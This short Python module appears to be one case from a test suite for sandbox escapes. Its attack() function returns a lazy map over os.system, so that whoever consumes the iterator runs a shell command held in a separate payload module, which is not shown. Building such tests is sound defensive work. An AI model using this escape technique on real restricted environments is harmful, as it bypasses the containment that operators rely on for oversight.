"""An iterator that calls a function of C is handed over."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import os
    return map(os.system, [payload.COMMAND])
